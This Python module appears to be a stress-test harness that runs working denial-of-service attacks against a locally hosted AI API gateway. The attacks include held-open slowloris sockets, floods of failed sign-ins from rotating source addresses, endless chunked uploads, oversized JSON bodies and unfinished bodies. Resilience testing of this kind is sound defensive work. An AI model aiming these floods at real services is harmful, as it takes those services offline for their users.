"""What strangers and a hostile tenant do; each until it is told to stop."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from itertools import count

import aiohttp

MIB = 1024**2
SIGN_IN = "/account/sign-in"
LOST = (OSError, asyncio.IncompleteReadError, aiohttp.ClientError, TimeoutError)


@dataclass(frozen=True)
class Aim:
    """Whom to attack; `key` is the hostile tenant's."""

    port: int
    key: str

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def head(self, path: str, *lines: str, key: str = "") -> bytes:
        given = [f"Authorization: Bearer {key}"] if key else []
        kind = "Content-Type: application/json"
        all_lines = [f"POST {path} HTTP/1.1", "Host: localhost", kind, *given, *lines]
        return ("\r\n".join(all_lines) + "\r\n\r\n").encode()


Attack = Callable[[Aim], Awaitable[None]]


@asynccontextmanager
async def connected(aim: Aim) -> AsyncIterator[asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", aim.port)
    swallowing = asyncio.create_task(swallow(reader))
    try:
        yield writer
    finally:
        swallowing.cancel()
        writer.close()


async def swallow(reader: asyncio.StreamReader) -> None:
    with suppress(*LOST):
        while await reader.read(65536):
            pass


async def hold(aim: Aim, begun: bytes) -> None:
    """Send this much, keep the connection; connect again when it is closed."""
    while True:
        with suppress(*LOST):
            reader, writer = await asyncio.open_connection("127.0.0.1", aim.port)
            try:
                writer.write(begun)
                await writer.drain()
                while await reader.read(65536):
                    pass
            finally:
                writer.close()
        await asyncio.sleep(0.5)


async def all_of(*works: Awaitable[None]) -> None:
    await asyncio.gather(*works)


async def silent_sockets(aim: Aim) -> None:
    half = b"GET /v1/models HTTP/1.1\r\nHost: local"
    silent = [hold(aim, b"") for _ in range(2_048)]
    await all_of(*silent, *[hold(aim, half) for _ in range(512)])


async def sign_ins(aim: Aim) -> None:
    """40 at once, of names that nobody has, from many addresses."""
    numbers = count()

    async def try_for_ever() -> None:
        while True:
            number = next(numbers)
            near = (f"127.{number // 250 % 250 + 1}.{number % 250 + 1}.9", 0)
            connector = aiohttp.TCPConnector(local_addr=near)
            with suppress(*LOST):
                async with aiohttp.ClientSession(
                    connector=connector, cookie_jar=aiohttp.CookieJar(unsafe=True)
                ) as client:
                    async with client.get(aim.url + SIGN_IN) as page:
                        found = re.search(
                            r'csrfmiddlewaretoken" value="([^"]+)', await page.text()
                        )
                    if not found:
                        await asyncio.sleep(0.2)
                        continue
                    form = {
                        "csrfmiddlewaretoken": found[1],
                        "login": f"nobody{number}@example.com",
                        "password": "not the right one",
                    }
                    async with client.post(aim.url + SIGN_IN, data=form) as answer:
                        await answer.read()

    await all_of(*[try_for_ever() for _ in range(40)])


async def endless_chunks(aim: Aim) -> None:
    """To a path that nobody answers, and to a page; without credentials."""
    chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"

    async def write_for_ever(path: str) -> None:
        while True:
            with suppress(*LOST):
                async with connected(aim) as writer:
                    writer.write(aim.head(path, "Transfer-Encoding: chunked"))
                    for _ in range(24_000):
                        writer.write(chunk)
                        await writer.drain()
            await asyncio.sleep(0.1)

    paths = ("/nowhere", SIGN_IN, "/v1/nowhere", "/v1/chat/completions")
    await all_of(*[write_for_ever(path) for path in paths * 3])


def heavy_bodies() -> list[bytes]:
    keys = "{" + ",".join(f'"k{number}":1' for number in range(1_900_000)) + "}"
    picture = {"type": "image_url", "image_url": {"url": "http://x/y"}}
    said = {"role": "user", "content": "x"}
    of_messages = {"model": "any", "messages": [said] * 600_000}
    of_pictures = {
        "model": "any",
        "messages": [{"role": "user", "content": [picture] * 100_000}],
    }
    return [
        keys.encode()[: 20 * MIB],
        json.dumps(of_messages).encode()[: 20 * MIB],
        json.dumps(of_pictures).encode(),
    ]


async def heavy_json(aim: Aim) -> None:
    """Bodies that are few bytes and very many things, four at once."""
    bodies = heavy_bodies()

    async def post_for_ever(body: bytes) -> None:
        async with aiohttp.ClientSession() as client:
            while True:
                headers = {
                    "authorization": f"Bearer {aim.key}",
                    "content-type": "application/json",
                }
                url = f"{aim.url}/v1/chat/completions"
                with suppress(*LOST):
                    async with client.post(url, data=body, headers=headers) as answer:
                        await answer.read()

    await all_of(*[post_for_ever(body) for body in [*bodies, bodies[0]]])


def large(aim: Aim, path: str, size: int) -> bytes:
    return aim.head(path, f"Content-Length: {size}", key=aim.key)


async def unfinished_bodies(aim: Aim) -> None:
    """100 bodies of 19 MiB, each but for its last byte."""
    size = 19 * MIB
    begun = large(aim, "/v1/chat/completions", size) + b"x" * (size - 1)
    await all_of(*[hold(aim, begun) for _ in range(100)])


async def one_byte_uploads(aim: Aim) -> None:
    begun = large(aim, "/v1/images/edits", 19 * MIB) + b"{"
    await all_of(*[hold(aim, begun) for _ in range(24)])


async def slow_calls(aim: Aim) -> None:
    body = b'{"model":"slow","messages":[{"role":"user","content":"x"}]}'
    begun = large(aim, "/v1/chat/completions", len(body)) + body
    await all_of(*[hold(aim, begun) for _ in range(520)])


async def large_quotes(aim: Aim) -> None:
    message = {"role": "user", "content": "x" * (20 * MIB - 200)}
    asked = {"model": "any", "messages": [message]}
    body = json.dumps({"operation": "chat", "request": asked}).encode()
    begun = large(aim, "/v1/quote", len(body)) + body

    async def ask_for_ever() -> None:
        while True:
            with suppress(*LOST):
                reader, writer = await asyncio.open_connection("127.0.0.1", aim.port)
                writer.write(begun)
                await writer.drain()
                await reader.readuntil(b"\r\n\r\n")
                writer.close()

    await all_of(*[ask_for_ever() for _ in range(8)])


ATTACKS: dict[str, Attack] = {
    "1 silent sockets": silent_sockets,
    "2 sign-ins": sign_ins,
    "3 endless chunks": endless_chunks,
    "4 heavy JSON": heavy_json,
    "5 unfinished bodies": unfinished_bodies,
    "5 one-byte uploads": one_byte_uploads,
    "5 slow calls": slow_calls,
    "5 large quotes": large_quotes,
}
